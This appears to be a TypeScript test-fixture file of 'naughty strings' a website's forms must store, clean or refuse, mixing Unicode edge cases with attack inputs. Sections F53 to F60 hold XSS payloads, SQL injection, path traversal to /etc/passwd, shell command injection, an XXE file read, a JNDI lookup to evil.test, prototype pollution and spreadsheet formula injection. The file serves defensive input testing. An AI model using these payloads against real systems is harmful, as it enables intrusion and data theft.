// Texts that break programs, by what they attempt. Written for this site; a new one takes one line.

/** Every form stores these unchanged. */
export const storedTexts: Record<string, string[]> = {
	F44: ["👨‍👩‍👧‍👦 fête", "🇸🇳 👋🏿", "fête 🎄", "1️⃣ #️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\u{1fae8}"],
	F45: [`e${"\u0301\u0302".repeat(50)}`, "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "\u0301seul"],
	F46: [
		"Fe\u0302te de Noe\u0308l",
		"аdmin ｆｅｔｅ ﬁn",
		"a\u00a0b\u202fc\u2003d\u3000e",
		"a\u200bb\u200cc\u200dd\ufeffe",
		"Œuvre, cœur, naïve, l’été, « chez nous »",
		"田中さんにあげて下さい 𠜎𠜱",
		"가 각 찦차",
		"नमस्ते ไทย ሰላም ߒߞߏ ⵜⴰⵎⴰⵣⵉⵖⵜ 𞤀𞤣",
		"İstanbul ıssız ẞ ß ǅ",
		"⁰⁴⁵ ½ Ⅷ 𝔮𝔲𝔦𝔠𝔨",
		"بְּرֵאשִׁית العيد ﷺ a\u200eb\u200fc\u061cd",
		"a\u00adb\u2060c\u180ed\u115fe\u3164f",
		"a\ufffdb\ufffec\uffff",
		"\ue000\uf8ff\u{10ffff}\u{e0041}",
		"œ".repeat(75),
	],
	F48: ["a\r\nb\rc", "a\u2028b\u2029c", "a\tb", "\\n\\r\\t\\0\\u0000"],
	F49: ["NaN", "1e400", "-0", "0x10", "9007199254740993", "٠١٢٣ １２３", "1 000,00 €", "50 %"],
	F50: ["null", "undefined", "__proto__", "constructor", "toString", "then", "[object Object]", "new", "admin"],
	F53: [
		"<script>alert(1)</script>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>",
		"<img src=x onerror=alert(1)>",
		"<svg/onload=alert(1)>",
		"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
		"<base href=//evil.test/>",
		"<form action=//evil.test><input name=password>",
		"<plaintext>",
		"<!--<script>",
		"<3 a < b > c & d",
	],
	F54: [`"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, "'", '"', "`"],
	F55: ["{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7}", "%s%n%x %d {0} %(a)s", "{% raw %} [[7*7]]"],
	F56: [
		"' OR 1=1--",
		`Robert"; drop table events;--`,
		"1' UNION SELECT password_hash FROM users--",
		"?, ?, $1, :a, @b",
		"100 % _a_ *? [^a] \\",
		"a GLOB '*' NEAR/2 OR",
		"title:a AND (b",
	],
	F57: ["javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "//evil.test", "https://user:pass@evil.test/#?"],
	F58: ["../../../etc/passwd", "C:\\boot.ini", "%2e%2e%2f", "CON", ".", "; ls -la", "$(touch a) `touch a`", "--help"],
	F59: [
		"</script><script>alert(1)</script><!--",
		"</title></textarea></style>",
		"]]> <![CDATA[ --> &lt;b&gt; &amp;amp; &#x0;",
		"a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:faux",
		"Content-Type: text/html",
		"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
		"() { :; }; echo \u0024{jndi:ldap://evil.test/a}",
		'{"a":1,"__proto__":{"x":1}}',
	],
	F60: ["=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3"],
};

/** No form stores these whole: control characters, which one line replaces, and direction marks. */
export const cleanedTexts: Record<string, string[]> = {
	F41: ["a\0b", "ab\0", "a\x0bb", "a\x1b[31mb", "a\x7fb", "a\x85b", "a\x9fb"],
	F43: ["photo\u202egnp.exe", "a\u202ab", "a\u202cb", "a\u2066b", "a\u2067b", "a\u2069b"],
};

/** No form stores these: more than any field holds. */
export const refusedTexts: Record<string, string[]> = {
	F45: [`e${"\u0334".repeat(100_001)}`],
};
